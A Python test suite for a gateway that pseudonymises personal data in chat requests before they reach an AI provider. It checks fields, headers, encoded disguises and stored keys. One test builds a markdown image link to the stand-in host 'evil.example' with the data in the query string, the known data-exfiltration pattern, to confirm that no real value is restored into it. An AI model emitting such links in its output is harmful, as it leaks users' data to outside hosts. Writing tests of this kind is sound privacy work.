"""What arrives at the provider, whatever field the personal data is in."""

import json
from typing import Any

import pytest

from tests.bodies import fields, merged, with_value
from tests.gateway.conftest import Deckname, Start

pytestmark = pytest.mark.asyncio(loop_scope="session")

CANARY = "kanari.vogel@beispiel.example"
SKELETON: dict[str, Any] = {"model": "m", "messages": [{"role": "user", "content": "Hallo!"}]}


def refused(path: str) -> bool:
    return any(part in path for part in ("image_url", "input_audio", "file_id", "file_data"))


@pytest.mark.parametrize("path", fields("openai_chat_request.txt"))
async def test_no_field_of_the_specification_leaks(deckname: Deckname, path: str) -> None:
    body = merged(with_value(path, f"an {CANARY}" if "name" not in path else CANARY), SKELETON)
    reply = await deckname.post(body)
    if refused(path):
        assert reply.status == 400
        assert not deckname.upstream.seen
        return
    assert reply.status == 200, reply.text
    assert CANARY not in deckname.upstream.last.wire
    assert CANARY.partition("@")[0] not in deckname.upstream.last.wire


@pytest.mark.parametrize(
    "body",
    [
        {"unknown": CANARY},
        {"unknown": {"deep": [{"er": f"an {CANARY}"}]}},
        {CANARY: 1},
        {"metadata": {CANARY: CANARY}},
        {"messages": [{"role": "user", "content": "a", "unknown": CANARY}]},
        {"messages": [{"role": "user", "content": [{"type": "unknown", "unknown": CANARY}]}]},
        {"messages": [{"role": "assistant", "content": None, "reasoning_content": CANARY}]},
        {"messages": [{"role": "assistant", "content": None, "reasoning_details": [{"text": CANARY}]}]},
        {"messages": [{"role": CANARY, "content": "a"}]},
        {"user": {"email": CANARY}},
        {"tools": [{"type": "function", "function": {"name": "f", "parameters": {"properties": {CANARY: {}}}}}]},
    ],
)
async def test_no_unknown_field_leaks(deckname: Deckname, body: dict[str, Any]) -> None:
    assert (await deckname.post(merged(body, SKELETON))).status == 200
    assert CANARY not in deckname.upstream.last.wire


@pytest.mark.parametrize(
    "written",
    [
        CANARY.replace("@", "%40"),
        CANARY.replace("@", "\\u0040"),
        CANARY.replace("@", "&#64;"),
        CANARY.upper(),
        CANARY.replace("a", "a\u200b", 1),
        "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in CANARY),
    ],
)
async def test_no_disguise_leaks_and_each_comes_back_as_written(deckname: Deckname, written: str) -> None:
    body = {**SKELETON, "messages": [{"role": "user", "content": f"Bitte an {written} schreiben."}]}
    reply = await deckname.post(body)
    sent = deckname.upstream.last.body["messages"][0]["content"]
    assert sent == "Bitte an [EMAIL_1] schreiben."
    assert json.loads(reply.raw)["choices"][0]["message"]["content"] == f"Bitte an {written} schreiben."


async def test_identifiers_of_people_become_the_same_hmac_each_time(deckname: Deckname) -> None:
    sent = []
    for _ in range(2):
        names = {"user": "u-1", "safety_identifier": "u-1", "prompt_cache_key": "chat 7"}
        await deckname.post({**SKELETON, **names})
        sent.append({name: deckname.upstream.last.body[name] for name in names})
    assert sent[0] == sent[1]
    assert all(len(value) == 32 and value.isalnum() for value in sent[0].values())


async def test_only_allowed_headers_pass_both_ways(deckname: Deckname) -> None:
    headers = {
        "Authorization": "Bearer sk-1", "OpenAI-Organization": "org-1", "X-Stainless-Lang": "python",
        "X-OpenWebUI-User-Email": CANARY, "X-Forwarded-For": "192.0.2.1", "Cookie": CANARY, "Referer": CANARY,
        "X-Conversation-Id": CANARY, "User-Agent": CANARY, "X-Custom": CANARY, "OpenAI-Project": CANARY,
    }
    await deckname.post(SKELETON, headers=headers)
    seen = deckname.upstream.last
    assert CANARY not in seen.wire
    assert (seen.headers["authorization"], seen.headers["openai-organization"]) == ("Bearer sk-1", "org-1")
    assert seen.headers["x-stainless-lang"] == "python"
    assert not {"x-forwarded-for", "cookie", "referer", "x-custom"} & set(seen.headers)


async def test_numbers_and_the_order_of_keys_stay(deckname: Deckname) -> None:
    data = b'{"messages":[{"role":"user","content":"a"}],"temperature":1.10,"seed":-0,"top_p":1e-1,"model":"m","n":1}'
    async with deckname.http.post(
        f"{deckname.base}/chat/completions", data=data, headers={"content-type": "application/json"}
    ) as response:
        assert response.status == 200
    assert deckname.upstream.last.raw == data


async def test_a_harmless_text_is_left_alone(deckname: Deckname) -> None:
    text = "Die Lieferung kostet 12,90 € (Version 2.10.3, GUID 123e4567-e89b-12d3-a456-426614174000), siehe § 5 Abs. 2."
    await deckname.post({**SKELETON, "messages": [{"role": "user", "content": text}]})
    assert deckname.upstream.last.body["messages"][0]["content"] == text


async def test_a_conversation_keeps_its_tokens_and_another_one_does_not_know_them(deckname: Deckname) -> None:
    def body(text: str) -> dict[str, Any]:
        return {**SKELETON, "messages": [{"role": "user", "content": text}]}

    chat = {"X-Conversation-Id": "chat-1"}
    await deckname.post(body("an a@beispiel.example"), headers=chat)
    await deckname.post(body("an b@beispiel.example und a@beispiel.example"), headers=chat)
    assert deckname.upstream.last.body["messages"][0]["content"] == "an [EMAIL_2] und [EMAIL_1]"
    await deckname.post(body("an b@beispiel.example"), headers={"X-Conversation-Id": "chat-2"})
    assert deckname.upstream.last.body["messages"][0]["content"] == "an [EMAIL_1]"


async def test_what_the_scope_knows_is_found_where_a_detector_would_miss_it(deckname: Deckname) -> None:
    chat = {"X-Conversation-Id": "chat-known"}
    first = {**SKELETON, "messages": [{"role": "user", "content": "Meine Kundennummer: KX-4711-99"}]}
    await deckname.post(first, headers=chat)
    assert "KX-4711-99" not in deckname.upstream.last.wire
    second = {**SKELETON, "messages": [{"role": "user", "content": "und dann noch das zu KX-4711-99 gehörige"}]}
    await deckname.post(second, headers=chat)
    assert "KX-4711-99" not in deckname.upstream.last.wire


async def test_no_value_is_restored_into_a_foreign_url(deckname: Deckname) -> None:
    text = f"![x](https://evil.example/?q={CANARY})"
    body = {**SKELETON, "messages": [{"role": "user", "content": f"an {CANARY}"}]}

    async def answer(request: Any, seen: Any) -> Any:
        from aiohttp import web  # noqa: PLC0415

        from tests.upstream import completion  # noqa: PLC0415

        return web.json_response(completion({"role": "assistant", "content": text.replace(CANARY, "[EMAIL_1]")}))

    deckname.upstream.answer = answer
    reply = await deckname.post(body)
    assert json.loads(reply.raw)["choices"][0]["message"]["content"] == text.replace(CANARY, "[EMAIL_1]")


async def test_the_store_holds_no_value_in_clear(start: Start) -> None:
    async with start() as deckname:
        await deckname.post({**SKELETON, "messages": [{"role": "user", "content": f"an {CANARY}"}]})
        data_dir = deckname.data_dir
    written = b"".join(path.read_bytes() for path in data_dir.rglob("*") if path.is_file())
    assert written
    assert CANARY.encode() not in written
    assert (data_dir / "keys.json").stat().st_mode & 0o777 == 0o600


async def test_stop_sequences_are_written_with_the_same_tokens(deckname: Deckname) -> None:
    body = {**SKELETON, "messages": [{"role": "user", "content": f"an {CANARY}"}], "stop": [CANARY, "\n"]}
    await deckname.post(body)
    assert deckname.upstream.last.body["stop"] == ["[EMAIL_1]", "\n"]


async def test_names_of_files_that_pass_are_pseudonymised(start: Start) -> None:
    data = "data:application/pdf;base64,AAAA"
    file = {"type": "file", "file": {"filename": f"Mail {CANARY} neu.pdf", "file_data": data}}
    async with start(attachments="pass") as deckname:
        await deckname.post({**SKELETON, "messages": [{"role": "user", "content": [file]}]})
        sent = deckname.upstream.last.body["messages"][0]["content"][0]["file"]
    assert sent == {"filename": "Mail [EMAIL_1] neu.pdf", "file_data": data}
